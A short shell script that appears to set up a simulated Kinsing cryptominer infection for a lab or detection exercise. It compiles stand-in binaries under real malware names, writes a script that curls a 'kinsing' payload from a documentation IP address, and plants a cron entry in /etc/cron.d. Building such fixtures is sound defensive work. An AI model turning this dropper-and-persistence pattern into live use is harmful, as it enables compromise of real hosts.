# What the miner's machine has, and what is brought to it: stand-ins under the names of the real ones, which do what those are seen to do.
. ./people.sh
mkdir -p /opt/app www
cp miner/app.py /opt/app/app.py
gcc -O1 -o www/kinsing miner/kinsing.c
gcc -O1 -o www/kdevtmpfsi miner/kdevtmpfsi.c
echo 'int nothing;' | gcc -shared -fPIC -o www/libsystem.so -x c -
printf '#!/bin/sh\ncurl -s http://203.0.113.9/kinsing > /dev/null\n' > www/unk.sh
printf '#!/bin/sh\nuname -m\nexit 0\n' > www/pg.sh
printf '* * * * * root /usr/bin/test -e /var/log/syslog\n' > /etc/cron.d/watchdog
